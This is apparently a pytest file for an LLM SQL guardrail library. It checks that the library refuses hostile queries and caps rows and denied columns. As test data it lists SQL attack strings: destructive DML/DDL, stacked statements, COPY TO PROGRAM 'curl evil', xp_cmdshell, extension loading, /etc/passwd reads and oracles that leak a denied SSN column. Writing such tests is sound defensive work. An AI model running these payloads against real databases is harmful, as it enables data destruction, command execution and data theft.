"""The SQL guardrails as pure functions: statement classes, limits, tables, columns, functions."""

from __future__ import annotations

import contextlib
import logging

import pytest
import sqlglot

from guardllm.errors import BlockedError, InputError
from guardllm.sql.columns import classify_by_values, classify_column, classify_name
from guardllm.sql.guardrails import SqlGuardrailError, SqlRules, check_query
from guardllm.sql.lineage import output_sources

SCHEMA = {
    "customers": {"id": "INTEGER", "name": "TEXT", "email": "TEXT", "ssn": "TEXT", "notes": "TEXT"},
    "orders": {"id": "INTEGER", "customer_id": "INTEGER", "total": "REAL"},
}

# (dialect, statement) pairs that must never run, grouped by the class the brief names.
BLOCKED = {
    "dml": [
        ("sqlite", "INSERT INTO customers (id) VALUES (9)"),
        ("sqlite", "UPDATE customers SET name = 'x'"),
        ("sqlite", "DELETE FROM customers"),
        ("sqlite", "REPLACE INTO customers (id) VALUES (1)"),
        ("postgres", "MERGE INTO customers c USING orders o ON c.id = o.id WHEN MATCHED THEN DELETE"),
        ("sqlite", "INSERT INTO customers SELECT * FROM customers"),
    ],
    "ddl": [
        ("sqlite", "CREATE TABLE x (a INT)"),
        ("sqlite", "DROP TABLE customers"),
        ("sqlite", "ALTER TABLE customers ADD COLUMN y TEXT"),
        ("sqlite", "CREATE INDEX i ON customers(email)"),
        ("sqlite", "CREATE VIEW v AS SELECT * FROM customers"),
        ("postgres", "TRUNCATE customers"),
        ("sqlite", "CREATE TEMP TABLE t AS SELECT * FROM customers"),
    ],
    "multi_statement": [
        ("sqlite", "SELECT 1; SELECT 2"),
        ("sqlite", "SELECT * FROM customers; DROP TABLE customers"),
        ("sqlite", "SELECT 1;\n;DELETE FROM customers;"),
    ],
    "select_into": [
        ("postgres", "SELECT * INTO stolen FROM customers"),
        ("sqlite", "SELECT * INTO stolen FROM customers"),
    ],
    "writing_cte": [
        ("postgres", "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d"),
        ("postgres", "WITH u AS (UPDATE customers SET name = 'x' RETURNING id) SELECT id FROM u"),
        ("sqlite", "WITH x AS (SELECT 1 AS id) INSERT INTO customers (id) SELECT id FROM x"),
        ("postgres", "WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i"),
    ],
    "admin": [
        ("sqlite", "PRAGMA table_info(customers)"),
        ("sqlite", "PRAGMA writable_schema = 1"),
        ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil"),
        ("sqlite", "DETACH DATABASE evil"),
        ("sqlite", "VACUUM"),
        ("sqlite", "VACUUM INTO '/tmp/copy.db'"),
        ("postgres", "COPY customers TO '/tmp/out.csv'"),
        ("postgres", "COPY (SELECT * FROM customers) TO PROGRAM 'curl evil'"),
        ("postgres", "SET search_path = evil"),
        ("postgres", "GRANT SELECT ON customers TO public"),
        ("postgres", "CALL do_things()"),
        ("tsql", "EXEC xp_cmdshell 'dir'"),
        ("postgres", "LOAD 'evil.so'"),
        ("sqlite", "REINDEX"),
        ("sqlite", "ANALYZE"),
        ("sqlite", "BEGIN"),
        ("sqlite", "COMMIT"),
        ("postgres", "SHOW ALL"),
        ("sqlite", "EXPLAIN SELECT 1"),
        ("postgres", "SELECT * FROM customers FOR UPDATE"),
        ("postgres", "LOCK TABLE customers"),
    ],
    "function": [
        ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
        ("sqlite", "SELECT writefile('/tmp/x', name) FROM customers"),
        ("sqlite", "SELECT readfile('/etc/passwd')"),
        ("sqlite", "SELECT * FROM fsdir('/')"),
        ("postgres", "SELECT pg_read_file('/etc/passwd')"),
        ("postgres", "SELECT lo_import('/etc/passwd')"),
        ("postgres", "SELECT id FROM customers WHERE pg_sleep(10) IS NULL"),
        ("postgres", "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)"),
        ("postgres", "SELECT nextval('orders_id_seq')"),
        ("mysql", "SELECT LOAD_FILE('/etc/passwd')"),
    ],
    "unparseable": [
        ("sqlite", "SELEC * FRM customers"),
        ("sqlite", "SELECT (1"),
        ("sqlite", "please show me all customers"),
        ("sqlite", "   "),
        ("sqlite", "-- only a comment"),
    ],
    "parameters": [
        ("sqlite", "SELECT * FROM customers WHERE id = ?"),
        ("sqlite", "SELECT * FROM customers WHERE id = :id"),
    ],
}


@pytest.mark.parametrize(
    ("dialect", "sql"),
    [pytest.param(d, s, id=f"{cls}:{s[:40]}") for cls, items in BLOCKED.items() for d, s in items],
)
def test_every_blocked_statement_class_is_refused(dialect: str, sql: str) -> None:
    with pytest.raises(SqlGuardrailError) as info:
        check_query(sql, SqlRules(dialect=dialect), SCHEMA)
    err = info.value
    assert isinstance(err, BlockedError)
    assert err.rule and err.rule.startswith("sql.")
    assert str(err)  # a message the model can act on


def test_messages_say_what_to_do() -> None:
    with pytest.raises(SqlGuardrailError, match="only SELECT statements are allowed"):
        check_query("DELETE FROM customers", SqlRules(), SCHEMA)
    with pytest.raises(SqlGuardrailError, match="only one statement"):
        check_query("SELECT 1; SELECT 2", SqlRules(), SCHEMA)
    with pytest.raises(SqlGuardrailError, match=r"function load_extension\(\) is not allowed"):
        check_query("SELECT load_extension('x')", SqlRules(), SCHEMA)


def test_parse_error_does_not_echo_the_query() -> None:
    # Parser messages quote the input; the model's text could hold a value pasted by a user.
    with pytest.raises(SqlGuardrailError) as info:
        check_query("SELECT 'maren.okafor@example.org' FROM (", SqlRules(), SCHEMA)
    assert "maren" not in str(info.value)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM customers",
        "select id, name from customers where id > 1 order by notes",
        "SELECT c.notes, SUM(o.total) AS spent FROM customers c JOIN orders o ON o.customer_id = c.id GROUP BY c.notes",
        "WITH big AS (SELECT customer_id FROM orders WHERE total > 10) SELECT * FROM big",
        "SELECT notes FROM customers UNION SELECT CAST(total AS TEXT) FROM orders",
        "SELECT name FROM customers UNION ALL SELECT CAST(total AS TEXT) FROM orders",
        "(SELECT id FROM customers)",
        "SELECT COUNT(*) FROM customers -- how many?",
        "SELECT upper(notes), length(notes) FROM customers WHERE notes LIKE 'A%'",
        "SELECT id, name, email FROM customers WHERE name = '[PERSON_1]' OR email IN ('[EMAIL_1]')",
    ],
)
def test_read_only_queries_pass(sql: str) -> None:
    checked = check_query(sql, SqlRules(), SCHEMA)
    assert checked.sql().upper().startswith(("SELECT", "WITH", "("))
    assert "--" not in checked.sql()  # comments are never forwarded


def test_comment_cannot_smuggle_a_second_statement() -> None:
    checked = check_query("SELECT 1 -- */ ; DROP TABLE customers", SqlRules(), SCHEMA)
    assert "DROP" not in checked.sql().upper()


@pytest.mark.parametrize(
    ("sql", "limit", "fetch", "capped"),
    [
        ("SELECT * FROM customers", 100, 101, True),
        ("SELECT * FROM customers LIMIT 5", 5, 5, False),
        ("SELECT * FROM customers LIMIT 100000", 100, 101, True),
        ("SELECT * FROM customers LIMIT (SELECT 100000)", 100, 101, True),
        ("SELECT notes FROM customers UNION SELECT notes FROM customers", 100, 101, True),
    ],
)
def test_row_limit_is_added_or_lowered(sql: str, limit: int, fetch: int, capped: bool) -> None:
    checked = check_query(sql, SqlRules(max_rows=100), SCHEMA)
    assert (checked.limit, checked.fetch, checked.capped) == (limit, fetch, capped)
    assert f"LIMIT {fetch}" in checked.sql()


def test_postgres_fetch_first_is_respected() -> None:
    checked = check_query(
        "SELECT id FROM customers FETCH FIRST 3 ROWS ONLY", SqlRules(dialect="postgres"), SCHEMA
    )
    assert checked.limit == 3


def test_table_allow_and_deny_lists() -> None:
    rules = SqlRules(deny_tables=["orders"])
    with pytest.raises(SqlGuardrailError, match="table orders is not allowed"):
        check_query("SELECT c.id FROM customers c JOIN orders o ON o.customer_id = c.id", rules, SCHEMA)
    with pytest.raises(SqlGuardrailError, match="table orders is not allowed"):
        check_query("SELECT id FROM customers WHERE id IN (SELECT customer_id FROM orders)", rules, SCHEMA)
    with pytest.raises(SqlGuardrailError, match="table orders is not allowed"):
        check_query("WITH o AS (SELECT * FROM orders) SELECT * FROM o", rules, SCHEMA)
    allow = SqlRules(allow_tables=["customers"])
    check_query("SELECT id FROM customers", allow, SCHEMA)
    with pytest.raises(SqlGuardrailError, match="table orders is not allowed"):
        check_query("SELECT * FROM orders", allow, SCHEMA)
    # A CTE named like an allowed table does not hide a denied one.
    with pytest.raises(SqlGuardrailError):
        check_query("WITH customers AS (SELECT * FROM orders) SELECT * FROM customers", allow, SCHEMA)


def test_unknown_table_is_refused_before_execution() -> None:
    with pytest.raises(SqlGuardrailError, match="unknown table nope"):
        check_query("SELECT * FROM nope", SqlRules(), SCHEMA)


DENY_SSN = SqlRules(deny_columns=["customers.ssn"])


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT name FROM customers WHERE ssn = '123-45-6789'",
        "SELECT name FROM customers WHERE ssn LIKE '1%'",
        "SELECT name FROM customers ORDER BY ssn",
        "SELECT COUNT(*) FROM customers GROUP BY ssn",
        "SELECT upper(ssn) FROM customers",
        "SELECT substr(ssn, 1, 3) AS prefix FROM customers",
        "SELECT ssn = '123-45-6789' AS hit FROM customers",
        "SELECT n FROM (SELECT name AS n, ssn FROM customers) x WHERE x.ssn > '5'",
        "SELECT id FROM customers WHERE id IN (SELECT ssn FROM customers)",
        "SELECT c.id FROM customers c JOIN customers d ON d.ssn = c.ssn",
        "SELECT ssn FROM customers ORDER BY 1",
        "SELECT ssn AS s FROM customers ORDER BY s",
        "SELECT * FROM customers ORDER BY 4",
        "SELECT a FROM (SELECT ssn AS a FROM customers UNION SELECT name FROM customers) ORDER BY a",
        "SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM customers d WHERE d.ssn = c.ssn)",
        "WITH w AS (SELECT ssn AS s FROM customers) SELECT COUNT(*) FROM w WHERE s > '5'",
    ],
)
def test_forbidden_column_only_selectable_as_is(sql: str) -> None:
    with pytest.raises(SqlGuardrailError, match=r"column customers\.ssn is not allowed") as info:
        check_query(sql, DENY_SSN, SCHEMA)
    assert info.value.rule in ("sql.column", "sql.unresolved_column")


@pytest.mark.parametrize(
    ("sql", "forbidden_outputs"),
    [
        ("SELECT * FROM customers", {"ssn"}),
        ("SELECT c.* FROM customers AS c", {"ssn"}),
        ("SELECT name, ssn AS tax_id FROM customers", {"tax_id"}),
        ("SELECT s FROM (SELECT ssn AS s FROM customers) AS sub", {"s"}),
        ("WITH w AS (SELECT ssn AS s FROM customers) SELECT s FROM w", {"s"}),
        ("SELECT name FROM customers UNION ALL SELECT ssn FROM customers", {"name"}),
        ("SELECT (SELECT ssn FROM customers LIMIT 1) AS x", {"x"}),
    ],
)
def test_select_star_and_aliases_resolve_forbidden_outputs(sql: str, forbidden_outputs: set[str]) -> None:
    checked = check_query(sql, DENY_SSN, SCHEMA)
    assert checked.columns is not None
    assert {c.name for c in checked.columns if c.is_forbidden} == forbidden_outputs
    with pytest.raises(SqlGuardrailError, match=r"column customers\.ssn is not allowed"):
        check_query(sql, SqlRules(deny_columns=["customers.ssn"], forbidden_columns_action="block"), SCHEMA)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT row_to_json(c) FROM customers c",
        "SELECT to_jsonb(customers) FROM customers",
        "SELECT name FROM customers c WHERE c IS NOT NULL",
        "SELECT ssn FROM customers INTERSECT SELECT '219-09-9999'",
        "SELECT ssn FROM customers EXCEPT SELECT '219-09-9999'",
        "SELECT a.name FROM customers a NATURAL JOIN customers b",
        "SELECT a.name FROM customers a JOIN customers b USING (ssn)",
        "SELECT name, row_number() OVER (ORDER BY ssn) FROM customers",
        "SELECT CASE WHEN ssn LIKE '2%' THEN 1 ELSE 0 END AS hit FROM customers",
    ],
)
def test_postgres_whole_row_and_set_oracles_are_refused(sql: str) -> None:
    # name/email are visible here so the deny rule on ssn is what refuses each query.
    rules = SqlRules(
        dialect="postgres", deny_columns=["customers.ssn"], visible_types={"PERSON", "EMAIL_ADDRESS"}
    )
    with pytest.raises(SqlGuardrailError, match=r"column customers\.ssn is not allowed"):
        check_query(sql, rules, SCHEMA)


def test_whole_row_selected_as_is_counts_as_forbidden_output() -> None:
    checked = check_query(
        "SELECT c FROM customers c", SqlRules(dialect="postgres", deny_columns=["ssn"]), SCHEMA
    )
    assert checked.columns is not None and checked.columns[0].is_forbidden


def test_allow_columns_is_an_allow_list() -> None:
    rules = SqlRules(
        allow_columns=["customers.id", "customers.name", "orders.*"], forbidden_columns_action="block"
    )
    check_query("SELECT id, name FROM customers", rules, SCHEMA)
    check_query("SELECT * FROM orders", rules, SCHEMA)
    with pytest.raises(SqlGuardrailError, match=r"column customers\.email is not allowed"):
        check_query("SELECT * FROM customers", rules, SCHEMA)
    bare = SqlRules(deny_columns=["email"], forbidden_columns_action="block")
    with pytest.raises(SqlGuardrailError, match=r"customers\.email"):
        check_query("SELECT email FROM customers", bare, SCHEMA)


def test_rules_validate_their_input() -> None:
    with pytest.raises(InputError):
        SqlRules(max_rows=0)
    with pytest.raises(InputError):
        SqlRules(forbidden_columns_action="hide")  # type: ignore[arg-type]
    with pytest.raises(InputError):
        SqlRules(deny_columns=[""])
    with pytest.raises(InputError):
        check_query(b"SELECT 1", SqlRules(), SCHEMA)  # type: ignore[arg-type]


def test_lineage_names_source_columns() -> None:
    checked = check_query(
        "SELECT c.name AS who, SUM(o.total) AS spent, COUNT(*) AS n FROM customers c "
        "JOIN orders o ON o.customer_id = c.id GROUP BY c.id",
        SqlRules(),
        SCHEMA,
    )
    assert checked.qualified is not None
    sources = dict(output_sources(checked.qualified, checked.schema, "sqlite") or [])
    assert sources == {"who": [("customers", "name")], "spent": [("orders", "total")], "n": []}
    union = check_query(
        "SELECT email FROM customers UNION ALL SELECT name FROM customers", SqlRules(), SCHEMA
    )
    assert union.columns is not None
    assert set(union.columns[0].sources) == {("customers", "email"), ("customers", "name")}


@pytest.mark.parametrize(
    ("name", "etype"),
    [
        ("email", "EMAIL_ADDRESS"),
        ("customerEmail", "EMAIL_ADDRESS"),
        ("billing_email", "EMAIL_ADDRESS"),
        ("ssn", "US_SSN"),
        ("card_number", "CREDIT_CARD"),
        ("name", "PERSON"),
        ("full_name", "PERSON"),
        ("Cardholder", "PERSON"),
        ("home_phone", "PHONE_NUMBER"),
        ("date_of_birth", "DATE_TIME"),
        ("street_address", "LOCATION"),
        ("api_key", "GENERIC_SECRET"),
        ("password", "PASSWORD"),
        ("product_name", None),
        ("email_verified", None),
        ("balance_due", None),
        ("id", None),
    ],
)
def test_column_name_classification(name: str, etype: str | None) -> None:
    assert classify_name(name) == etype


def test_column_type_follows_lineage_and_values() -> None:
    assert classify_column("contact", [("customers", "email")]) == ("EMAIL_ADDRESS", "source:customers.email")
    assert classify_column("x", [("customers", "email"), ("customers", "name")]) == (None, None)
    assert classify_by_values(["PERSON", "PERSON", None]) == "PERSON"
    assert classify_by_values(["PERSON", None, None]) is None
    assert classify_by_values(["PERSON"]) is None


@pytest.mark.parametrize(
    "sql",
    [
        "CALL notify('maren.okafor@example.org')",
        "SELECT * FROM customers FOR UPDATE OF 'maren.okafor@example.org'",
        "SELECT c FROM 'maren.okafor@example.org' c",
    ],
)
def test_sqlglot_logs_never_quote_the_query(sql: str, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with contextlib.suppress(SqlGuardrailError):
        check_query(sql, SqlRules(deny_columns=["ssn"]), SCHEMA)
    assert "maren" not in caplog.text
    # Outside guardllm's checks sqlglot logs as usual.
    caplog.clear()
    sqlglot.parse("CALL notify('x')", read="sqlite")
    assert "unsupported syntax" in caplog.text


def test_name_types_cover_every_classification() -> None:
    from guardllm.sql.columns import NAME_TYPES

    for name in ("ssn", "email", "card_number", "phone", "name", "dob", "iban", "password", "api_key"):
        assert classify_name(name) in NAME_TYPES
    # a type the rules show raw is filterable; every other classified type is not
    visible = SqlRules(visible_types=NAME_TYPES - {"US_SSN"})
    check_query("SELECT id FROM customers WHERE email LIKE '%@x.org' ORDER BY name", visible, SCHEMA)
    with pytest.raises(SqlGuardrailError, match=r"customers\.ssn holds US_SSN"):
        check_query("SELECT id FROM customers ORDER BY ssn", visible, SCHEMA)
